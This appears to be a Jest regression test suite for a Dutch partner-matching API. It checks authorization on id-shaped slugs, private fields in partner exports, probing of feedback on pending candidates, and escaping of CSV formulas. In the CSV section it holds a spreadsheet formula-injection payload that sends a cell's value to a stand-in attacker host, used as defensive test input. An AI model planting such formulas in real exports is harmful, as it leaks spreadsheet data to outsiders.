import { parse } from 'csv-parse/sync';
import { DataSource } from 'typeorm';
import { ReserveIdShapedSlugs1763935500000 } from '../libs/persistence/src/migrations/1763935500000-ReserveIdShapedSlugs';
import { completeFullRun } from './support/full-run';
import { createPartner, partnerBody, UTRECHT_PARTNERS } from './support/partner-fixtures';
import { startTestApp, type TestApp } from './support/test-app';

interface Partner {
  id: string;
  slug: string;
}

interface ListItem {
  candidate: Partner;
  status: string;
  reasons: { code: string; share?: number }[];
}

interface ReviewItem {
  id: string;
  partnerA: Partner;
  partnerB: Partner;
}

const ID_SHAPE = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
const TEAM_NOTE = 'Interne notitie: eerst met de wethouder bellen';
const TEAM_ACTOR = 'sardes-reviewer@example.org';
/** Far from Utrecht and out of matching: partners the Utrecht lists never contain. */
const ELSEWHERE = { gemeenten: ['GM0935'], matchingOptOut: true };

jest.setTimeout(30_000);

/** Issue 12, items 1-5: each test failed on the code before its fix. */
describe('security and privacy regressions (issue 12)', () => {
  let api: TestApp;
  const partners: Partner[] = [];
  let teamKey: string;
  let reviewerKey: string;

  const keyFor = async (partner: string): Promise<string> =>
    (await api.http().post('/v1/api-keys').send({ name: `Sleutel ${partner}`, role: 'partner', partner }).expect(201)).body.key;
  const list = async (partner: Partner, view: 'partner' | 'team'): Promise<ListItem[]> =>
    (await api.http().get(`/v1/partners/${partner.slug}/suggestions?view=${view}&limit=100`).expect(200)).body.items;
  const pairOf = async (a: Partner, b: Partner): Promise<ReviewItem> => {
    const items: ReviewItem[] = (await api.http().get('/v1/reviews?limit=500&status=pending').expect(200)).body.items;
    return items.find((item) => [item.partnerA.id, item.partnerB.id].sort().join() === [a.id, b.id].sort().join())!;
  };
  // The history records the deciding key's name as its actor: a reviewer's key named like a person.
  const decide = (matchId: string, status: string) => api.as(reviewerKey).patch(`/v1/matches/${matchId}`).send({ status, note: TEAM_NOTE }).expect(200);
  const sql = <T = unknown>(query: string, params: unknown[] = []): Promise<T> => api.app.get(DataSource).query(query, params);

  beforeAll(async () => {
    api = await startTestApp('security_regressions');
    for (const fixture of UTRECHT_PARTNERS) partners.push(await createPartner(api, partnerBody(fixture)));
    teamKey = (await api.http().post('/v1/api-keys').send({ name: 'Team', role: 'team' }).expect(201)).body.key;
    reviewerKey = (await api.http().post('/v1/api-keys').send({ name: TEAM_ACTOR, role: 'team' }).expect(201)).body.key;
    await completeFullRun(api);
  }, 180_000);

  afterAll(async () => {
    await api?.close();
  });

  describe('1. a slug of the shape of an id', () => {
    it('is never derived: a partner named with another partner’s id gets a prefixed slug, and its key stays its own', async () => {
      const victim = partners[3];
      const named = await createPartner(api, partnerBody({ name: victim.id, ...ELSEWHERE }));
      expect(named.slug).toBe(`partner-${victim.id}`);
      expect(named.slug).not.toMatch(ID_SHAPE);

      const created = (await api.http().post('/v1/api-keys').send({ name: 'Nieuw', role: 'partner', partner: named.slug }).expect(201)).body;
      expect(created.partnerId).toBe(named.id);
      const key: string = created.key;
      for (const path of [named.slug, named.id, named.slug.toUpperCase()]) {
        expect((await api.as(key).get(`/v1/partners/${path}`).expect(200)).body.id).toBe(named.id);
      }

      const before = (await api.http().get(`/v1/partners/${victim.id}`).expect(200)).body;
      await api.as(key).get(`/v1/partners/${victim.id}`).expect(403);
      await api.as(key).patch(`/v1/partners/${victim.id}`).send({ description: 'Overgenomen' }).expect(403);
      await api.as(key).get(`/v1/partners/${victim.id}/export`).expect(403);
      await api.as(key).get(`/v1/partners/${victim.id}/suggestions`).expect(403);
      await api.as(key).post(`/v1/partners/${victim.id}/suggestions/${partners[0].slug}/feedback`).send({ verdict: 'interested' }).expect(403);
      expect((await api.http().get(`/v1/partners/${victim.id}`).expect(200)).body).toEqual(before);
    });

    it('stored before the fix, passes the guard on no @OwnPartnerOnly route for the partner it names', async () => {
      const victim = partners[2];
      const holder = await createPartner(api, partnerBody({ name: 'Oude Slug Maastricht', ...ELSEWHERE }));
      await sql(`UPDATE partner SET slug = $1 WHERE id = $2`, [victim.id, holder.id]);
      const key = await keyFor(holder.id);
      const routes: [method: 'get' | 'patch' | 'post', path: string, body?: object][] = [
        ['get', `/v1/partners/${victim.id}`],
        ['patch', `/v1/partners/${victim.id}`, { description: 'Overgenomen' }],
        ['get', `/v1/partners/${victim.id}/export`],
        ['get', `/v1/partners/${victim.id}/suggestions`],
        ['post', `/v1/partners/${victim.id}/suggestions/${partners[0].slug}/feedback`, { verdict: 'not-relevant' }],
      ];
      for (const [method, path, body] of routes) {
        const request = api.as(key)[method](path);
        const response = await (body ? request.send(body) : request);
        expect([method, path, response.status]).toEqual([method, path, 403]);
      }
      // The guard resolves the path as the route does: the holder's own id still passes.
      await api.as(key).get(`/v1/partners/${holder.id}`).expect(200);
      await sql(`UPDATE partner SET slug = $1 WHERE id = $2`, ['oude-slug-maastricht', holder.id]);
    });

    it('is renamed by the migration (numbered past a taken slug), and down() gives back the bare form where free', async () => {
      const [first, second] = [await createPartner(api, partnerBody({ name: 'Migratie Een', ...ELSEWHERE })), await createPartner(api, partnerBody({ name: 'Migratie Twee', ...ELSEWHERE }))];
      const blocker = await createPartner(api, partnerBody({ name: 'Migratie Drie', ...ELSEWHERE }));
      const [firstSlug, secondSlug] = ['0b7c2f1a-3d4e-4f5a-8b6c-7d8e9f0a1b2c', 'AAAAAAAA-BBBB-4CCC-8DDD-EEEEEEEEEEEE'];
      await sql(`UPDATE partner SET slug = $1 WHERE id = $2`, [firstSlug, first.id]);
      await sql(`UPDATE partner SET slug = $1 WHERE id = $2`, [secondSlug, second.id]);
      await sql(`UPDATE partner SET slug = $1 WHERE id = $2`, [`partner-${secondSlug.toLowerCase()}`, blocker.id]);
      const slugOf = async (id: string) => (await sql<{ slug: string }[]>(`SELECT slug FROM partner WHERE id = $1`, [id]))[0].slug;

      const runner = api.app.get(DataSource).createQueryRunner();
      try {
        await new ReserveIdShapedSlugs1763935500000().up(runner);
        expect(await slugOf(first.id)).toBe(`partner-${firstSlug}`);
        expect(await slugOf(second.id)).toBe(`partner-${secondSlug.toLowerCase()}-2`);
        expect(await slugOf(blocker.id)).toBe(`partner-${secondSlug.toLowerCase()}`);
        expect(await sql<unknown[]>(`SELECT slug FROM partner WHERE slug ~* $1`, [ID_SHAPE.source])).toEqual([]);

        // down() cannot tell a renamed slug from one derived from a name like "Partner <uuid>"; keep the blocker out of it.
        await sql(`UPDATE partner SET slug = 'migratie-drie' WHERE id = $1`, [blocker.id]);
        await new ReserveIdShapedSlugs1763935500000().down(runner);
        expect(await slugOf(first.id)).toBe(firstSlug);
        expect(await slugOf(second.id)).toBe(`partner-${secondSlug.toLowerCase()}-2`);
        await new ReserveIdShapedSlugs1763935500000().up(runner);
        expect(await sql<unknown[]>(`SELECT slug FROM partner WHERE slug ~* $1`, [ID_SHAPE.source])).toEqual([]);
      } finally {
        await runner.release();
      }
    });
  });

  describe('2. a partner’s own export', () => {
    it('holds what the partner was shown: its approved suggestions, its own feedback, decisions without notes or actors', async () => {
      const [voedselbank, school, supermarket] = partners;
      const approved = await pairOf(school, voedselbank);
      await decide(approved.id, 'approved');
      await api.http().post(`/v1/partners/${school.slug}/suggestions/${voedselbank.slug}/feedback`).send({ verdict: 'interested', reason: 'Eigen antwoord' }).expect(200);
      await api.http().post(`/v1/partners/${supermarket.slug}/suggestions/${school.slug}/feedback`).send({ verdict: 'not-relevant', reason: 'Antwoord van een ander' }).expect(200);
      const teamPending = (await list(school, 'team')).filter((item) => item.status === 'pending');
      expect(teamPending.length).toBeGreaterThan(0);

      const key = await keyFor(school.slug);
      const own = (await api.as(key).get(`/v1/partners/${school.slug}/export`).expect(200)).body;
      const shown = (await api.as(key).get(`/v1/partners/${school.slug}/suggestions`).expect(200)).body.items as ListItem[];
      expect(own.view).toBe('partner');
      expect(own.partner).toMatchObject({ id: school.id, contactEmail: expect.any(String) });
      expect(own.suggestions.map((item: ListItem) => item.candidate.id)).toEqual(shown.map((item) => item.candidate.id));
      expect(own.suggestions.map((item: ListItem) => item.candidate.id)).toEqual([voedselbank.id]);
      expect(own.matches.map((entry: { match: { id: string } }) => entry.match.id)).toEqual([approved.id]);
      expect(own.matches[0]).toEqual({
        match: expect.not.objectContaining({ note: expect.anything() }),
        history: [{ from: 'pending', to: 'approved', at: expect.any(String) }],
      });
      expect(own.feedback).toEqual([expect.objectContaining({ partnerId: school.id, candidateId: voedselbank.id, reason: 'Eigen antwoord' })]);
      expect(own).not.toHaveProperty('inListsOf');
      const text = JSON.stringify(own);
      for (const hidden of [TEAM_NOTE, TEAM_ACTOR, 'Antwoord van een ander', ...teamPending.map((item) => item.candidate.id)]) expect(text).not.toContain(hidden);
    });

    it('stays complete for admin and team keys, and OpenAPI says which export is which', async () => {
      const school = partners[1];
      for (const team of [api.http(), api.as(teamKey)]) {
        const full = (await team.get(`/v1/partners/${school.slug}/export`).expect(200)).body;
        expect(full.view).toBe('team');
        expect(full.suggestions.some((item: ListItem) => item.status === 'pending')).toBe(true);
        expect(full.matches.length).toBeGreaterThan(1);
        expect(JSON.stringify(full.matches)).toContain(TEAM_NOTE);
        expect(full.feedback.map((answer: { reason: string }) => answer.reason).sort()).toEqual(['Antwoord van een ander', 'Eigen antwoord']);
        expect(full.inListsOf).toBeGreaterThan(0);
      }
      const schema = api.openApi.paths['/v1/partners/{idOrSlug}/export'].get!.responses['200'] as { content: Record<string, { schema: { oneOf: { $ref: string }[] } }> };
      expect(schema.content['application/json'].schema.oneOf.map((option) => option.$ref)).toEqual([
        '#/components/schemas/OwnPartnerExportDto',
        '#/components/schemas/PartnerExportDto',
      ]);
      const own = api.openApi.components!.schemas!.OwnPartnerExportDto as { properties: Record<string, unknown> };
      expect(Object.keys(own.properties)).not.toContain('inListsOf');
    });
  });

  describe('3. feedback on a candidate the partner was not shown', () => {
    it('answers a partner key the same 404 for a pending candidate as for one never suggested, and stores nothing', async () => {
      const [, , , gemeente] = partners;
      const key = await keyFor(gemeente.slug);
      const pending = (await list(gemeente, 'team')).find((item) => item.status === 'pending')!.candidate;
      const stranger = await createPartner(api, partnerBody({ name: 'Speelgoedbank Maastricht', ...ELSEWHERE }));
      const feedbackCount = async () => (await sql<{ n: number }[]>(`SELECT count(*)::int AS n FROM feedback`))[0].n;
      const before = await feedbackCount();

      const answer = (candidate: Partner) => api.as(key).post(`/v1/partners/${gemeente.slug}/suggestions/${candidate.slug}/feedback`).send({ verdict: 'interested' });
      const [onPending, onStranger] = [await answer(pending), await answer(stranger)];
      expect([onPending.status, onStranger.status]).toEqual([404, 404]);
      const neutral = (body: Record<string, unknown>, candidate: Partner) => JSON.parse(JSON.stringify(body).replaceAll(candidate.slug, '<candidate>'));
      expect(neutral(onPending.body, pending)).toEqual(neutral(onStranger.body, stranger));
      expect(await feedbackCount()).toBe(before);

      // Once the team approves the pair, the partner sees it and may answer.
      await decide((await pairOf(gemeente, pending)).id, 'approved');
      expect((await answer(pending).expect(200)).body.candidate.id).toBe(pending.id);
    });

    it('still takes an answer on a pending pair through the team view (team and admin keys)', async () => {
      const viewer = partners[4];
      const pending = (await list(viewer, 'team')).filter((item) => item.status === 'pending').map((item) => item.candidate);
      expect(pending.length).toBeGreaterThanOrEqual(2);
      await api.as(teamKey).post(`/v1/partners/${viewer.slug}/suggestions/${pending[0].slug}/feedback`).send({ verdict: 'interested' }).expect(200);
      await api.http().post(`/v1/partners/${viewer.slug}/suggestions/${pending[1].slug}/feedback`).send({ verdict: 'interested' }).expect(200);
      await api.as(await keyFor(viewer.slug)).post(`/v1/partners/${viewer.slug}/suggestions/${pending[1].slug}/feedback`).send({ verdict: 'interested' }).expect(404);
    });
  });

  describe('4. CSV export of cells a spreadsheet would run', () => {
    const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")';
    // The website tells the rows apart; it never needs a prefix.
    const cases: Record<string, unknown>[] = [
      { name: HYPERLINK, description: '+31 30 123 4567', website: 'https://formule-1.example.org' },
      { name: '@Stichting Formule', description: '-5 graden in de winter', website: 'https://formule-2.example.org' },
      { name: "'s-Hertogenbosch Jeugdfonds", description: "'=1+1 staat er letterlijk", website: 'https://formule-3.example.org' },
    ];

    it('prefixes them with a quote, and the import takes exactly that quote off again', async () => {
      const created: Partner[] = [];
      for (const overrides of cases) created.push(await createPartner(api, partnerBody({ ...overrides, ...ELSEWHERE })));
      const csv = (await api.as(teamKey).get('/v1/partners/export.csv').expect(200)).text;
      const rows: Record<string, string>[] = parse(csv, { columns: true });
      const exported = cases.map(({ website }) => rows.find((row) => row.website === website)!);
      expect(exported.map((row) => [row.name, row.description, row.offers])).toEqual([
        [`'${HYPERLINK}`, "'+31 30 123 4567", 'voedsel;vrijwilligers'],
        ["'@Stichting Formule", "'-5 graden in de winter", 'voedsel;vrijwilligers'],
        ["'s-Hertogenbosch Jeugdfonds", "''=1+1 staat er letterlijk", 'voedsel;vrijwilligers'],
      ]);
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

      // Round trip: the exported lines import again (once their partners are gone), into exactly the values they came from.
      const originals = await Promise.all(created.map(async (partner) => (await api.http().get(`/v1/partners/${partner.id}`).expect(200)).body));
      for (const partner of created) await api.http().delete(`/v1/partners/${partner.id}`).expect(204);
      const [header, ...lines] = csv.trimEnd().split('\n');
      const ours = lines.filter((line) => cases.some(({ website }) => line.includes(`,${website as string},`)));
      expect(ours).toHaveLength(cases.length);
      const imported = await api.http().post('/v1/partners/import').attach('file', Buffer.from([header, ...ours].join('\n')), { filename: 'terug.csv', contentType: 'text/csv' }).expect(201);
      const back = await Promise.all((imported.body.slugs as string[]).map(async (slug) => (await api.http().get(`/v1/partners/${slug}`).expect(200)).body));
      const fields = (partner: Record<string, unknown>) => [partner.name, partner.description, partner.offers, partner.website];
      expect(back.map(fields).sort()).toEqual(originals.map(fields).sort());
    });
  });

  describe('5. embed reasons', () => {
    it('carry no share of the score, in the order the partner view gives them', async () => {
      const school = partners[1];
      const embed = (await api.as(teamKey).get(`/v1/embed/partners/${school.slug}/suggestions`).expect(200)).body;
      expect(embed.items.length).toBeGreaterThan(0);
      const view = await list(school, 'partner');
      for (const item of embed.items as ListItem[]) {
        for (const reason of item.reasons) expect(Object.keys(reason).sort()).toEqual(['code', 'params', 'text']);
        const same = view.find((listed) => listed.candidate.id === item.candidate.id)!;
        expect(item.reasons.map((reason) => reason.code)).toEqual(same.reasons.map((reason) => reason.code));
      }
      const schema = api.openApi.components!.schemas!.EmbedSuggestionDto as { properties: { reasons: { items: { $ref: string } } } };
      const reason = api.openApi.components!.schemas![schema.properties.reasons.items.$ref.split('/').pop()!] as { properties: Record<string, unknown> };
      expect(Object.keys(reason.properties)).not.toContain('share');
    });
  });
});
